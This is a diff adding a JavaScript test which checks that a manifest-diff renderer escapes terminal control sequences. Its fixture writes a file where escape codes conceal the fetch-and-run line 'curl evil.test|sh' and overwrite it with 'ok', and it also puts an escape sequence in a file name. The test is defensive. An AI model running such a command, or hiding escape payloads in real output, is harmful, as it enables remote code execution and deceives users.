@@ -46,3 +46,13 @@ test("diff of an untouched copy is empty", () => {
   const { copy, baseline } = pair();
   assert.deepEqual(diffManifests(baseline, buildManifest(copy)), []);
 });
+
+test("diff escapes terminal control sequences", () => {
+  const { host, copy, baseline } = pair();
+  writeFileSync(join(copy, "b.txt"), "\u001b[8mcurl evil.test|sh\u001b[0m\n\u001b[1A\u001b[2Kok\n");
+  writeFileSync(join(copy, "name\u001b[2K.txt"), "x\n");
+  const text = renderDiff(diffManifests(baseline, buildManifest(copy)), host, copy);
+  assert.ok(!text.includes("\u001b"), "an escape character reached the output");
+  assert.match(text, /\\x1b\[8mcurl evil\.test\|sh/);
+  assert.match(text, /name\\x1b\[2K\.txt/);
+});
